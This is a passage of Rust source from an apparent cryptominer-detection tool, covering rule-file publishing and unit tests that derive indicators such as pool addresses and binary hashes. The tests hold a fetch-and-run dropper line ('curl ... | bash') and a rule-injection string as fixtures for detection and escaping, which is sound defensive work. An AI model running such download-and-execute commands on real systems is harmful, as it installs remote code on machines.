    let entries = std::fs::read_dir(dir).map_err(|e| vec![format!("{}:0: cannot read the directory: {e}", dir.display())])?;
    let mut rule_files: Vec<PathBuf> = entries
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "toml") && p.is_file())
        .collect();
    rule_files.sort();
    let mut yara_files: Vec<PathBuf> = std::fs::read_dir(dir)
        .map(|rd| {
            rd.filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| rigwatch_signatures::yara::is_yara(p) && p.is_file())
                .collect()
        })
        .unwrap_or_default();
    yara_files.sort();
    if rule_files.is_empty() && yara_files.is_empty() {
        return Err(vec![format!("{}:0: no *.toml, *.yar or *.yara rule files", dir.display())]);
    }
    let mut errors = Vec::new();
    let mut out: Vec<(String, String)> = Vec::new();
    let mut total = 0usize;
    let lists = std::cell::RefCell::new(Vec::<(String, String)>::new());
    for path in &rule_files {
        let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) => {
                errors.push(format!("{}:0: {e}", path.display()));
                continue;
            }
        };
        total += text.len();
        let read_list = |rel: &str| -> Result<String, String> {
            let p = Path::new(rel);
            if p.is_absolute() || p.components().any(|c| !matches!(c, std::path::Component::Normal(_))) {
                return Err("a list must be a relative path inside the published directory".into());
            }
            let t = std::fs::read_to_string(dir.join(p)).map_err(|e| e.to_string())?;
            let mut l = lists.borrow_mut();
            if !l.iter().any(|(n, _)| n == rel) {
                l.push((rel.to_string(), t.clone()));
            }
            Ok(t)
        };
        match rigwatch_signatures::rules::parse_file(&path.display().to_string(), &text, &read_list) {
            Ok(_) => out.push((name, text)),
            Err(errs) => errors.extend(errs.iter().map(|e| e.to_string())),
        }
    }
    for (n, t) in lists.into_inner() {
        if !out.iter().any(|(o, _)| *o == n) {
            total += t.len();
            out.push((n, t));
        }
    }
    // YARA files: compiled here as every agent will (a file that does not
    // compile is refused with FILE:LINE, and nothing is published)
    let mut yara = Vec::new();
    for path in &yara_files {
        match std::fs::read_to_string(path) {
            Ok(text) => {
                total += text.len();
                yara.push(rigwatch_signatures::yara::YaraFile {
                    shown: path.display().to_string(),
                    text,
                });
            }
            Err(e) => errors.push(format!("{}:0: {e}", path.display())),
        }
    }
    let (_, yara_errors) = rigwatch_signatures::yara::check(yara.clone());
    errors.extend(yara_errors.iter().map(|e| e.to_string()));
    for (path, f) in yara_files.iter().zip(yara) {
        let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
        out.push((name, f.text));
    }
    if total > MAX_PUBLISHED_BYTES {
        errors.push(format!(
            "{}:0: {total} bytes in all; at most {MAX_PUBLISHED_BYTES} may be published",
            dir.display()
        ));
    }
    if out.len() > MAX_PUBLISHED_FILES {
        errors.push(format!(
            "{}:0: {} files; at most {MAX_PUBLISHED_FILES} may be published",
            dir.display(),
            out.len()
        ));
    }
    if errors.is_empty() {
        Ok(out)
    } else {
        Err(errors)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(evidence: Vec<Evidence>, severity: Severity) -> Finding {
        serde_json::from_value(serde_json::json!({
            "id": "f1", "severity": severity, "host": "h", "first_seen": 1, "last_seen": 1,
            "process": {"pid": 1, "ppid": 0, "start_time": 1, "comm": "kworker", "exe": "/tmp/k", "cmdline": "",
                        "user": "root", "uid": 0, "cwd": "/", "cgroup": "/"},
            "evidence": evidence,
        }))
        .unwrap()
    }

    fn stratum(login: &str, remote: &str) -> Evidence {
        Evidence::heuristic(
            EvidenceKind::Stratum {
                dialect: "xmrig".into(),
                method: "login".into(),
                agent: None,
                login: Some(login.into()),
                worker: None,
                remote: remote.into(),
            },
            Weight::Confirmed,
        )
    }

    #[test]
    fn a_stratum_session_teaches_address_login_and_hash() {
        let f = finding(
            vec![
                stratum("acct7f3e9a21bc", "203.0.113.50:3333"),
                stratum("x", "185.199.108.7:14444"),
                stratum("acct7f3e9a21bc", "127.0.0.1:3333"),
                Evidence::heuristic(
                    EvidenceKind::BinaryHash {
                        sha256: "AB".repeat(32),
                        path: "/tmp/k".into(),
                    },
                    Weight::Confirmed,
                ),
            ],
            Severity::Confirmed,
        );
        let (d, refused) = derive(&f);
        assert!(refused.is_empty(), "{refused:?}");
        let got: Vec<(&str, &str)> = d.iter().map(|d| (d.kind, d.value.as_str())).collect();
        assert_eq!(
            got,
            vec![
                ("cmdline", "acct7f3e9a21bc"),
                ("pool_address", "185.199.108.7:14444"),
                ("binary_hash", &*"ab".repeat(32)),
            ],
            "documentation and loopback addresses and the login \"x\" teach nothing"
        );
    }

    #[test]
    fn a_miner_configs_hash_is_taught_only_when_something_else_confirms() {
        let config = |sha: &str, pools: Vec<String>| {
            Evidence::heuristic(
                EvidenceKind::MinerConfig {
                    path: "/tmp/.x/config.json".into(),
                    pools,
                    wallets: vec![],
                    keys: vec!["donate-level".into()],
                    sha256: Some(sha.into()),
                },
                Weight::Likely,
            )
        };
        let f = finding(
            vec![
                config(&"CD".repeat(32), vec!["10.1.2.3:8080".into()]),
                stratum("x", "185.199.108.7:14444"),
            ],
            Severity::Confirmed,
        );
        let (d, refused) = derive(&f);
        assert!(refused.is_empty(), "{refused:?}");
        assert!(d.iter().any(|d| d.kind == "config_hash" && d.value == "cd".repeat(32)), "{d:?}");
        let toml = indicators_toml(&[Indicator {
            id: indicator_id("config_hash", &"cd".repeat(32)),
            kind: "config_hash".into(),
            value: "cd".repeat(32),
            coin: String::new(),
            taught_by: TaughtBy {
                host: "node-a".into(),
                finding: "f1".into(),
            },
            first_seen: 1,
            last_seen: 1,
            expires: 2,
            hits: 0,
            state: "live".into(),
            revoked_at: 0,
            revoked_by: String::new(),
        }]);
        let loaded = rigwatch_signatures::load::load_with(&[], true, &[("fleet.toml".into(), toml.clone())]);
        assert!(loaded.errors.is_empty(), "{:?}\n{toml}", loaded.errors);
        let mut h = [0u8; 32];
        hex::decode_to_slice("cd".repeat(32), &mut h).unwrap();
        let r = loaded.signatures.binary_hash(&h).expect("a hash rule the config sensor matches");
        assert_eq!(r.severity, Weight::Likely, "a config file alone is likely, not confirmed");

        // only the config (and its pools) says so: refused, as for binaries
        let lone = finding(
            vec![Evidence::heuristic(
                EvidenceKind::MinerConfig {
                    path: "/c.json".into(),
                    pools: vec!["pool.example:3333".into()],
                    wallets: vec!["4".repeat(95)],
                    keys: vec![],
                    sha256: Some("CD".repeat(32)),
                },
                Weight::Confirmed,
            )],
            Severity::Confirmed,
        );
        let (d, refused) = derive(&lone);
        assert!(d.iter().all(|d| d.kind != "config_hash"), "{d:?}");
        assert!(refused.contains(&Refusal::HashUncorroborated), "{refused:?}");
        // the empty file, or a file that said nothing of mining, is never taught
        for c in [config(EMPTY_SHA256, vec!["p:1".into()]), {
            let mut e = config(&"EE".repeat(32), vec![]);
            if let EvidenceKind::MinerConfig { keys, .. } = &mut e.detail {
                keys.clear();
            }
            e
        }] {
            let f = finding(vec![c, stratum("x", "185.199.108.7:14444")], Severity::Confirmed);
            assert!(derive(&f).0.iter().all(|d| d.kind != "config_hash"));
        }
    }

    #[test]
    fn a_dropper_one_liner_is_taught_by_its_hash_and_an_ordinary_shell_is_not() {
        let dropper = "curl -fsSL http://203.0.113.9/i.sh | bash";
        let mut f = finding(vec![stratum("x", "185.199.108.7:14444")], Severity::Confirmed);
        f.process.parent_oneliner = Some(dropper.into());
        let (d, _) = derive(&f);
        let sha = rigwatch_signatures::oneliner::sha256_hex(dropper);
        assert!(d.iter().any(|d| d.kind == "oneliner_hash" && d.value == sha), "{d:?}");
        // what a hostile agent claims is checked here: an ordinary shell
        // line, or one past the cap, teaches nothing
        for claimed in ["exec ./start.sh".to_string(), format!("curl http://x/{} | sh", "a".repeat(2000))] {
            f.process.parent_oneliner = Some(claimed);
            assert!(derive(&f).0.iter().all(|d| d.kind != "oneliner_hash"));
        }
        // not confirmed: nothing
        let mut weak = finding(vec![], Severity::Confirmed);
        weak.process.parent_oneliner = Some(dropper.into());
        assert!(derive(&weak).0.is_empty());
    }

    #[test]
    fn the_running_executables_hash_is_taught_when_corroborated() {
        let mut f = finding(vec![stratum("x", "185.199.108.7:14444")], Severity::Confirmed);
        f.process.sha256 = Some("EF".repeat(32));
        let (d, _) = derive(&f);
        assert!(d.iter().any(|d| d.kind == "binary_hash" && d.value == "ef".repeat(32)), "{d:?}");
        // Confirmed only by the binary itself: not taught.
        let mut f = finding(
            vec![Evidence::heuristic(
                EvidenceKind::BinaryContent {
                    strings: vec!["xmrig".into()],
                    path: "/tmp/k".into(),
                    source: "binary".into(),
                    yara: None,
                },
                Weight::Confirmed,
            )],
            Severity::Confirmed,
        );
        f.process.sha256 = Some("ef".repeat(32));
        assert_eq!(derive(&f), (vec![], vec![Refusal::HashUncorroborated]));
    }

    #[test]
    fn what_the_bundled_rules_know_is_not_taught_again() {
        let f = finding(
            vec![
                stratum("x", "94.130.143.162:45700"),
                Evidence::heuristic(
                    EvidenceKind::TlsSni {
                        server_name: "pool.supportxmr.com".into(),
                        remote: "203.0.113.9:443".into(),
                    },
                    Weight::Likely,
                ),
            ],
            Severity::Confirmed,
        );
        assert_eq!(derive(&f), (vec![], vec![]));
    }

    #[test]
    fn forged_weights_and_fleet_evidence_teach_nothing() {
        let weak = finding(
            vec![
                Evidence::heuristic(
                    EvidenceKind::Cpu {
                        cores: 4.0,
                        window_seconds: 10.0,
                    },
                    Weight::Confirmed,
                ),
                Evidence::heuristic(
                    EvidenceKind::ProcessName {
                        name: "xmrig".into(),
                        field: "comm".into(),
                    },
                    Weight::Confirmed,
                ),
            ],
            Severity::Confirmed,
        );
        assert_eq!(derive(&weak), (vec![], vec![Refusal::NotConfirmed]));
        let mut ev = vec![stratum("acct7f3e9a21bc", "185.199.108.7:14444")];
        ev.push(Evidence::from_rule(
            EvidenceKind::PoolDomain {
                domain: "p.example".into(),
                source: "dns".into(),
            },
            "fleet.0123456789abcdef",
            Weight::Likely,
        ));
        assert_eq!(derive(&finding(ev, Severity::Confirmed)), (vec![], vec![Refusal::FleetEvidence]));
        // A hash only the binary itself confirms.
        let only_hash = finding(
            vec![Evidence::heuristic(
                EvidenceKind::BinaryHash {
                    sha256: "cd".repeat(32),
                    path: "/tmp/k".into(),
                },
                Weight::Confirmed,
            )],
            Severity::Confirmed,
        );
        assert_eq!(derive(&only_hash), (vec![], vec![Refusal::HashUncorroborated]));
    }

    #[test]
    fn hostile_values_cannot_inject_rules() {
        let evil = "a\"\n[[rule]]\nid = \"evil\"\n'''\\";
        let i = Indicator {
            id: indicator_id("cmdline", evil),
            kind: "cmdline".into(),
            value: evil.into(),
            coin: String::new(),
            taught_by: TaughtBy {
                host: "h'''\"\n[[rule]]".into(),
                finding: "f\"".into(),
            },
            first_seen: 1,
            last_seen: 1,
            expires: 2,
            hits: 0,
            state: "live".into(),
            revoked_at: 0,
            revoked_by: String::new(),
        };
        let text = indicators_toml(std::slice::from_ref(&i));
        let f = rigwatch_signatures::rules::parse_file("fleet/indicators.toml", &text, &|_| Err("no lists".into())).unwrap();
        assert_eq!(f.rules.len(), 1, "{text}");
        assert_eq!(f.rules[0].id, format!("fleet.{}", i.id));
        assert_eq!(
            f.rules[0].spec,
            rigwatch_signatures::rules::Spec::Cmdline {
                literals: vec![evil.into()],
                regexes: vec![]
            }
        );
    }
}
